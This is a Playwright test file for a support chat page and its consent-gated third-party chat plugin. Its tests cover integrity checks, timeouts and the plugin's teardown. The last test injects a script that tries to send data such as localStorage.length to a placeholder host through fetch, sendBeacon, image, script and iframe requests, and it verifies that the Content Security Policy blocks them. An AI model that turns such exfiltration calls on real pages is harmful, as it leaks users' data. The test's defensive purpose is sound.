import { createHash } from 'node:crypto';
import type { Page, Route } from '@playwright/test';
import { deskOf } from './desk.ts';
import { findings } from './findings.ts';
import { pdfOf } from '#tests/server/pdf-of.ts';
import { expect, test, type Frame } from './journey.ts';
import { specimen } from './specimen.ts';
import type { Words } from './words.ts';

test.use({ profile: 'es', client: 'marta', language: 'en-US' });

test('a conversation goes back and forth on the open page, and survives a server that fails', async ({
  page,
  words,
  frame,
  deployment,
  profile,
  pageErrors,
}) => {
  pageErrors.expect(/status of 500/);
  pageErrors.expect(/status of 415/);
  await page.goto('/dashboard');
  await frame.openMenu();
  await frame.menu.getByRole('link', { name: words('menu.support') }).click();
  await expect(page).toHaveURL('/support');
  const log = page.getByRole('log');
  const field = page.getByLabel(words('chat.write'));
  const said = `When will my certificate arrive? ${Date.now()}`;
  await field.fill(said);
  await page.keyboard.press('Enter');
  await expect(log.getByText(said)).toBeVisible();
  await expect(field).toHaveValue('');

  const desk = deskOf(deployment, profile);
  const marta = await desk.idOf('marta');
  await desk.call('POST', `/clients/${marta}/chat/typing`);
  await expect(log.getByText(words('chat.typing'))).toBeVisible();
  const answer = `It is on its way. ${Date.now()}`;
  await desk.call('POST', `/clients/${marta}/chat`, { text: answer });
  await expect(log.getByText(answer)).toBeVisible();
  await expect(log.getByText(words('chat.read')).first()).toBeVisible();
  expect(await findings(page)).toEqual([]);

  // A picture of the client's and a document of the desk's.
  await field.fill('Not sent yet.');
  const files = page.getByLabel(words('chat.file.add'));
  await files.setInputFiles(await specimen('me'));
  const picture = log.getByRole('img', { name: words('chat.file.image') });
  await expect(picture).toBeVisible();
  await expect(field).toHaveValue('Not sent yet.');
  await expect
    .poll(() => picture.evaluate((image: HTMLImageElement) => image.naturalWidth))
    .toBeGreaterThan(0);
  await desk.call('POST', `/clients/${marta}/chat`, { file: await desk.sendable(marta, pdfOf()) });
  const saved = page.waitForEvent('download');
  await log.getByRole('link', { name: words('chat.file.document') }).click();
  expect((await saved).suggestedFilename()).toBe('document.pdf');
  await files.setInputFiles({
    name: 'notes.txt',
    mimeType: 'text/plain',
    buffer: Buffer.from('x'),
  });
  await expect(page.getByRole('alert')).toContainText(words('error.mediaTypeUnsupported'));
  expect(await findings(page)).toEqual([]);

  // What could not be sent stays, says why, and goes out once.
  let fails = true;
  await page.route('**/chat/app/v1/messages', (route) =>
    fails && route.request().method() === 'POST'
      ? route.fulfill({
          status: 500,
          contentType: 'application/problem+json',
          body: JSON.stringify({ status: 500, code: 'internal' }),
        })
      : route.continue(),
  );
  const second = `Thank you. ${Date.now()}`;
  await field.fill(second);
  await page.getByRole('button', { name: words('chat.send'), exact: true }).click();
  await expect(log.getByRole('alert')).toContainText(words('error.internal'));
  fails = false;
  await log.getByRole('button', { name: words('chat.sendAgain') }).click();
  await expect(log.getByRole('alert')).toHaveCount(0);
  await page.reload();
  await expect(log.getByText(second)).toHaveCount(1);
});

test.describe('the chat of another company', () => {
  test.use({ cookiesAsked: true });

  // It takes its commands from a queue, as such scripts do, and adds itself to the page.
  const script = `(() => {
    const waiting = window.acme;
    const box = document.createElement('aside');
    box.id = 'acme-chat';
    document.body.append(box);
    const run = ([name, value]) => {
      box.dataset.seen = (box.dataset.seen ?? '') + name + ' ';
      if (name === 'onReady') value();
      if (name === 'setLoginInfo') box.textContent = value.user_name;
    };
    window.acme = { push: (...commands) => commands.forEach(run) };
    waiting.forEach(run);
  })();`;
  const hashOf = (text: string) => `sha384-${createHash('sha384').update(text).digest('base64')}`;

  async function offer(
    page: Page,
    answered: string | null,
    checked: string = script,
  ): Promise<string[]> {
    const asked: string[] = [];
    await page.route('**/profile.*.json', async (route) => {
      const file = await (await route.fetch()).json();
      const chat = {
        system: 'acme',
        script: '/acme-chat.js',
        integrity: hashOf(checked),
        queue: 'acme',
      };
      await route.fulfill({ json: { ...file, profile: { ...file.profile, chat } } });
    });
    await page.route('**/acme-chat.js', (route) => {
      asked.push(route.request().url());
      // A script that hangs: no answer comes.
      if (answered === null) return;
      return route.fulfill({ contentType: 'text/javascript', body: answered });
    });
    return asked;
  }

  test.describe('a client who was never asked', () => {
    test.use({ client: 'outstanding' });

    test('is loaded with consent alone, knows the client once, and goes with the session', async ({
      page,
      words,
      frame,
    }) => {
      const asked = await offer(page, script);
      await page.goto('/support');
      const agree = page.getByRole('button', { name: words('chat.plugin.agree') });
      await expect(agree).toBeVisible();
      expect(await findings(page)).toEqual([]);
      expect(asked).toEqual([]);
      await agree.click();
      const box = page.locator('#acme-chat');
      await expect(box).toHaveAttribute('data-seen', 'onReady setLoginInfo chatOpen ');
      expect(asked).toHaveLength(1);

      // Within four hours the client is not described again.
      await page.reload();
      await page.getByRole('button', { name: words('chat.plugin.open') }).click();
      await expect(box).toHaveAttribute('data-seen', 'onReady chatOpen ');

      await frame.openMenu();
      await frame.menu.getByRole('button', { name: words('menu.logout') }).click();
      await expect(frame.signIn).toBeVisible();
      await expect(box).toHaveCount(0);
      await expect(page.locator('script[src="/acme-chat.js"]')).toHaveCount(0);
      expect(await page.evaluate(() => 'acme' in window)).toBe(false);
    });
  });

  test('goes when its consent is withdrawn', async ({ page, words }) => {
    await offer(page, script);
    await page.goto('/support');
    await openPlugin(page, words);
    const box = page.locator('#acme-chat');
    await expect(box).toHaveCount(1);
    await page.getByRole('button', { name: words('cookie.open') }).click();
    const choices = page.getByRole('dialog', { name: words('cookie.title') });
    await choices.getByRole('button', { name: words('cookie.rejectAll') }).click();
    await expect(box).toHaveCount(0);
    expect(await page.evaluate(() => 'acme' in window)).toBe(false);
  });

  const leaving: Readonly<Record<string, (left: Left) => Promise<void>>> = {
    'the client signs out': async ({ words, frame }) => {
      await frame.openMenu();
      await frame.menu.getByRole('button', { name: words('menu.logout') }).click();
      await expect(frame.signIn).toBeVisible();
    },
    'consent is withdrawn': async ({ page, words }) => {
      await page.getByRole('button', { name: words('cookie.open') }).click();
      const choices = page.getByRole('dialog', { name: words('cookie.title') });
      await choices.getByRole('button', { name: words('cookie.rejectAll') }).click();
      await expect(choices).toHaveCount(0);
    },
  };
  for (const [name, leave] of Object.entries(leaving))
    test(`nothing is loaded when ${name} while the key is asked for`, async ({
      page,
      words,
      frame,
    }) => {
      const asked = await offer(page, script);
      const held: Route[] = [];
      await page.route('**/client/app/v1/cs_key', (route) => void held.push(route));
      await page.goto('/support');
      await openPlugin(page, words);
      await expect.poll(() => held.length).toBe(1);
      await leave({ page, words, frame });
      await held[0]?.fulfill({
        json: { key: 'late', user_id: '1', user_name: 'Marta', phone: null },
      });
      // What an answer sets off has begun by then.
      await page.evaluate(() => new Promise((done) => setTimeout(done, 300)));
      expect(asked).toEqual([]);
      await expect(page.locator('#acme-chat')).toHaveCount(0);
      expect(await page.evaluate(() => 'acme' in window)).toBe(false);
    });

  test('a script that comes too late is not run', async ({ page, words, pageErrors }) => {
    pageErrors.expect(/did not load/);
    await page.clock.install();
    await offer(page, null);
    const waiting: Route[] = [];
    await page.route('**/acme-chat.js', (route) => void waiting.push(route));
    await page.goto('/support');
    await openPlugin(page, words);
    await expect.poll(() => waiting.length).toBe(1);
    await page.clock.runFor(9_000);
    const main = page.getByRole('main');
    await expect(main.getByRole('alert')).toContainText(words('error.chatUnavailable'));
    const answer = page.waitForResponse('**/acme-chat.js');
    await waiting[0]?.fulfill({ contentType: 'text/javascript', body: script });
    await (await answer).finished();
    // What is run after it has come is run by then.
    await page.evaluate(() => new Promise((done) => setTimeout(done)));
    await page.clock.runFor(1_000);
    await expect(page.locator('#acme-chat')).toHaveCount(0);
    expect(await page.evaluate(() => 'acme' in window)).toBe(false);
  });

  for (const [name, answered] of [
    ['another script than the one that was checked', `${script} // changed`],
    ['a script that hangs', null],
  ] as const)
    test(`${name} is not run; how else to reach the tenant stands there`, async ({
      page,
      words,
      pageErrors,
    }) => {
      pageErrors.expect(/integrity|did not load|Failed to/);
      await page.clock.install();
      await offer(page, answered);
      await page.goto('/support');
      await openPlugin(page, words);
      await page.clock.runFor(9_000);
      const main = page.getByRole('main');
      await expect(main.getByRole('alert')).toContainText(words('error.chatUnavailable'));
      await expect(main.getByRole('link', { name: /@/ }).first()).toBeVisible();
      await expect(page.locator('#acme-chat')).toHaveCount(0);
      expect(await findings(page)).toEqual([]);
    });

  test('without a token the script is not asked for; how else to reach the tenant stands there', async ({
    page,
    words,
  }) => {
    const asked = await offer(page, script);
    await page.route('**/client/app/v1/cs_key', async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, json: { ...(await response.json()), key: '' } });
    });
    await page.goto('/support');
    await openPlugin(page, words);
    const main = page.getByRole('main');
    await expect(main.getByRole('alert')).toContainText(words('error.chatTokenMissing'));
    await expect(main.getByRole('link', { name: /@/ }).first()).toBeVisible();
    expect(asked).toEqual([]);
  });

  // Both are the script that was checked: what was checked may still be bad.
  test('a script that throws leaves the page as it was; how else to reach the tenant stands there', async ({
    page,
    words,
    pageErrors,
  }) => {
    pageErrors.expect(/no chat today|did not/);
    await page.clock.install();
    const throwing = `throw new Error('no chat today'); ${script}`;
    await offer(page, throwing, throwing);
    await page.goto('/support');
    await openPlugin(page, words);
    await page.clock.runFor(9_000);
    const main = page.getByRole('main');
    await expect(main.getByRole('alert')).toContainText(words('error.chatUnavailable'));
    await expect(main.getByRole('link', { name: /@/ }).first()).toBeVisible();
    await expect(page.locator('#acme-chat')).toHaveCount(0);
  });

  test('a script that tries to reach other hosts is refused each of them', async ({
    page,
    words,
    pageErrors,
  }) => {
    pageErrors.expect(/Content Security Policy|leak\.invalid|Failed to fetch/);
    const reached: string[] = [];
    await page.context().route(/leak\.invalid/, (route) => {
      reached.push(route.request().url());
      return route.abort();
    });
    const reaching = `${script}
      window.refused = [];
      addEventListener('securitypolicyviolation', (event) => window.refused.push(event.effectiveDirective));
      fetch('https://leak.invalid/fetched').catch(() => undefined);
      navigator.sendBeacon('https://leak.invalid/beacon', localStorage.length);
      new Image().src = 'https://leak.invalid/image.png';
      document.head.append(Object.assign(document.createElement('script'), { src: 'https://leak.invalid/more.js' }));
      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://leak.invalid/frame' }));`;
    await offer(page, reaching, reaching);
    await page.goto('/support');
    await openPlugin(page, words);
    await expect(page.locator('#acme-chat')).toHaveCount(1);
    await expect
      .poll(async () => (await page.evaluate<string[]>('window.refused')).toSorted())
      .toEqual(['connect-src', 'connect-src', 'frame-src', 'img-src', 'script-src-elem']);
    expect(reached).toEqual([]);
  });
});

interface Left {
  readonly page: Page;
  readonly words: Words;
  readonly frame: Frame;
}

/** The account may have the consent of another browser. */
async function openPlugin(page: Page, words: Words): Promise<void> {
  await page
    .getByRole('button', { name: words('chat.plugin.agree') })
    .or(page.getByRole('button', { name: words('chat.plugin.open') }))
    .click();
}
